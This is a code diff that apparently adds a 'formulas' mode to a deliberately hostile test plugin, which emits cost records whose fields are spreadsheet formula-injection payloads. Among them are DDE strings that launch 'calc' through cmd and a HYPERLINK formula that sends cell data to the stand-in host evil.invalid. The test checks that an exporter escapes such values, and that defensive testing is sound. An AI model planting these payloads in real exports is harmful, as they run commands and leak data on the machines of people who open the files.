@@ -8,7 +8,9 @@
 //! `exec`, `grandchild`, `settings`, `redirect` (GET `HOSTILE_BASE_URL` +
 //! `target` with its key), `fetch` (GET the URL `target`, with the header
 //! `header`, `Name: value`, if given), `foreign-rows`, `overflow` (two amounts of its
-//! own whose day sum needs 30 digits), `newer-contract` (records with fields
+//! own whose day sum needs 30 digits), `formulas` (a cost line whose every
+//! text is a spreadsheet formula, in the spellings that slip past naive
+//! checks), `newer-contract` (records with fields
 //! of a later contract version), `impersonate` (another provider's display name), `flood` (`count` log lines and
 //! one long line), `leak-days` (its key as a lost day's reason), `huge` (`count` records of 64 KiB), `memory`, `leak`
 //! (logs and returns its own key).
@@ -324,6 +326,24 @@ fn run(ctx: &PluginCtx<'_>, req: RunRequest) -> PluginResult {
                     Record::new("usage", "", usage.to_string()),
                     Record::new("provider", "", provider.to_string()),
                 ],
+                &RunMetadata::default(),
+            )
+        }
+        "formulas" => {
+            // Each text a spreadsheet opening the export would evaluate;
+            // the amount and quantity are negative numbers, which must stay
+            // numbers.
+            let day = req.from.clone().unwrap_or_default();
+            let payload = serde_json::json!({
+                "provider": "hostile", "account": "@SUM(1+1)*cmd|' /C calc'!A0", "day": day,
+                "project": " =1+1", "api_key": "\t=2+2", "line_item": "-1+1+cmd|' /C calc'!A0",
+                "model": "-0+HYPERLINK(\"http://evil.invalid/?\"&A1,\"open\")",
+                "token_type": "+1", "cost_type": "\r=3", "service_tier": "\n@x",
+                "context_window": "-", "amount": "-1.50", "unit": "major", "currency": "usd",
+                "quantity": "-2", "quantity_unit": "=x",
+            });
+            PluginResult::success(
+                vec![Record::new("cost", "", payload.to_string())],
                 &RunMetadata::default(),
             )
         }
